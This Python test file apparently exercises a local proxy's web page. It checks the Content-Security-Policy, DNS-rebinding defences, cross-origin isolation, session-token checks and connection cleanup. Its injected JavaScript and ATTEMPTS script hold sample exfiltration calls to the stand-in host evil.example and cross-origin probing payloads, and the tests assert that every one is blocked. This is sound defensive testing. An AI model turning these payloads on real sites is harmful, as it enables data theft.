# SPDX-License-Identifier: Apache-2.0
"""What pages of others try with the page of the proxy, and what a part of the page itself may not do."""

import http.client
import http.server
import json
import os
import threading

from chromium_tab import PATIENCE, until

PAGE = b"<!doctype html><title>A page of another origin</title>"


class Evil(http.server.ThreadingHTTPServer):
    """A web server at the same address; its name is that of the Host."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), EvilPage)
        threading.Thread(target=self.serve_forever, daemon=True).start()


class EvilPage(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE)


def request(serve, method, path, content=None, **fields):
    """The status, the fields and the content, without a browser."""
    connection = http.client.HTTPConnection("127.0.0.1", serve.port, timeout=PATIENCE)
    connection.request(method, path, content, fields)
    response = connection.getresponse()
    return response.status, response.headers, response.read()


def document(serve):
    """The page, and its Content-Security-Policy."""
    _, fields, content = request(serve, "GET", "/")
    return content, fields["Content-Security-Policy"]


def forbids_what_is_injected(tab):
    """The policy stops script, style, pictures, requests and forms that are not the page's own."""
    # What the person's tools evaluate may be more.
    blocked = tab.run(is_strict=True, expression="""new Promise(done => {
      const blocked = [];
      addEventListener("securitypolicyviolation", event => blocked.push(event.effectiveDirective));
      const add = (name, members) => document.body.append(Object.assign(document.createElement(name), members));
      add("script", { textContent: "window.injected = 1" });
      add("script", { src: "data:text/javascript,window.injected = 2" });
      add("style", { textContent: "body { display: none }" });
      add("img", { src: "http://evil.example/?stolen" });
      add("div", { innerHTML: "<a onclick='window.injected = 3'>a</a><iframe srcdoc='<p>b'></iframe>" });
      add("base", { href: "http://evil.example/" });
      document.querySelector("a[onclick]").click();
      fetch("http://evil.example/?stolen").catch(() => {});
      navigator.sendBeacon("http://evil.example/", "stolen");
      try { eval("window.injected = 4"); } catch {}
      const form = Object.assign(document.createElement("form"), { method: "post", action: "http://evil.example/" });
      document.body.append(form);
      form.submit();
      setTimeout(() => done({ blocked, injected: window.injected ?? null, base: document.baseURI,
        display: getComputedStyle(document.body).display }), 300);
    })""")
    assert blocked["injected"] is None and blocked["display"] != "none", blocked
    assert "evil" not in blocked["base"], blocked
    for directive in ["script-src-elem", "script-src-attr", "script-src", "style-src-elem", "img-src", "connect-src",
                      "form-action", "base-uri"]:  # fmt: skip
        assert directive in blocked["blocked"], (directive, blocked)


def refuses_another_host(serve, tab):
    """A name of the Internet that leads to this machine (DNS rebinding)."""
    assert tab.open(f"http://rebound.example:{serve.port}/") == 400
    # A page that was loaded before the name led here has this origin, and reads what it gets.
    for path in ["/state", "/metrics", "/events"]:
        assert tab.run(f"fetch({path!r}).then(answer => answer.status)") == 400, path
    assert tab.run("fetch('/session', { method: 'POST', body: 'token' }).then(answer => answer.status)") == 400
    assert request(serve, "GET", "/", Host=f"127.0.0.1:{serve.port + 1}")[0] == 400
    assert request(serve, "GET", "/", Host="")[0] == 400


ATTEMPTS = """(async (there, session) => {
  const found = {};
  const note = async (name, attempt) => {
    try { found[name] = await attempt(); } catch (error) { found[name] = error.name; }
  };
  const headers = { Authorization: `Bearer ${session}` };
  await note("cors", () => fetch(`${there}/state`).then(answer => answer.text()));
  await note("session", () => fetch(`${there}/state`, { headers }).then(answer => answer.text()));
  await note("included", () => fetch(`${there}/metrics`, { credentials: "include" }).then(answer => answer.text()));
  await note("opaque", () => fetch(`${there}/metrics`, { mode: "no-cors" })
    .then(answer => answer.type + answer.status));
  await note("post", () => fetch(`${there}/approve`, { method: "POST", mode: "no-cors",
    body: '{"id":1,"answer":"always"}' }).then(answer => answer.type + answer.status));
  await note("stream", () => new Promise(done => {
    const events = new EventSource(`${there}/events`);
    events.onopen = () => done("open");
    events.onerror = () => done("error");
  }));
  const load = (name, members) => new Promise(done => {
    const node = Object.assign(document.createElement(name), members);
    node.onload = () => done("load");
    node.onerror = () => done("error");
    document.body.append(node);
  });
  await note("script", () => load("script", { src: `${there}/metrics` }));
  await note("image", () => load("img", { src: `${there}/` }));
  await note("frame", async () => {
    await load("iframe", { src: `${there}/` });
    const frame = document.querySelector("iframe");
    return frame.contentDocument ? "readable" : "not readable";
  });
  return found;
})"""


def tells_other_origins_nothing(serve, chromium, session):
    """Of another site, and of another port of this address, which is the same site."""
    evil, tab = Evil(), chromium.tab()
    for host in ["evil.example", "127.0.0.1", "evil.localhost"]:
        tab.open(f"http://{host}:{evil.server_port}/")
        for there in [serve.origin, f"http://countersign.localhost:{serve.port}"]:
            tab.events = []
            found = tab.run(f"{ATTEMPTS}({json.dumps(there)}, {json.dumps(session)})")
            for name in ["cors", "session", "included"]:
                assert found[name] == "TypeError", (host, there, name, found)
            for name in ["stream", "script", "image"]:
                assert found[name] == "error", (host, there, name, found)
            for name in ["opaque", "post"]:
                assert found[name] in ("opaque0", "TypeError"), (host, there, name, found)
            assert found["frame"] == "not readable", (host, there, found)
            answers = {
                answer["response"]["url"].removeprefix(there): answer["response"]["status"]
                for answer in tab.named("Network.responseReceived") if answer["response"]["url"].startswith(there)
            }  # fmt: skip
            for path, status in answers.items():
                assert status == 403 or status == 200 and path == "/", (host, there, path, status)
        # A form leaves its page: the answer is shown, and nothing is done.
        tab.run(f"""(form => {{ document.body.append(form); form.submit(); return true; }})(Object.assign(
          document.createElement("form"), {{ method: "post", action: "{serve.origin}/session", target: "_self" }}))""")
        tab.until("document.body?.textContent.includes('another origin')")
    tab.close()
    # A link from elsewhere opens the page, which has no session then.
    assert request(serve, "GET", "/", Sec_Fetch_Site="cross-site")[0] == 200


def refuses_a_stale_session(serve):
    for value in ["Bearer ", "Bearer stale", "Basic c3RhbGU6", "Bearer " + "A" * 43]:
        assert request(serve, "GET", "/state", Authorization=value)[0] == 401, value
    assert request(serve, "POST", "/session", "A" * 43)[0] == 403
    assert request(serve, "POST", "/approve", '{"id":1,"answer":"always"}', Cookie="session=A")[0] == 401


def forgets_readers_that_have_gone(serve, session, count=1000):
    """A browser that connects again and again leaves no thread and no descriptor."""

    def held():
        folder = f"/proc/{serve.pid}"
        return len(os.listdir(f"{folder}/fd")), len(os.listdir(f"{folder}/task"))

    def reconnect():
        connection = http.client.HTTPConnection("127.0.0.1", serve.port, timeout=PATIENCE)
        connection.request("GET", "/events", headers={"Authorization": f"Bearer {session}"})
        response = connection.getresponse()
        assert response.status == 200, response.status
        assert response.fp.readline().startswith(b":")
        response.close()
        connection.close()

    for _ in range(20):
        reconnect()
    before = held()
    for _ in range(count):
        reconnect()
    until(lambda: held()[0] <= before[0] + 20 and held()[1] <= before[1] + 20, f"{before} again, now {held()}")


def visit(check, serve, chromium, tab):
    session = tab.run("sessionStorage.getItem('session')")
    other = chromium.tab()
    check("refusesAnotherHost", refuses_another_host, serve, other)
    other.open(serve.link())
    other.until("document.getElementById('health').textContent === '✓ Running'")
    check("forbidsWhatIsInjected", forbids_what_is_injected, other)
    other.close()
    check("tellsOtherOriginsNothing", tells_other_origins_nothing, serve, chromium, session)
    check("refusesAStaleSession", refuses_a_stale_session, serve)
    check("forgetsReadersThatHaveGone", forgets_readers_that_have_gone, serve, session)
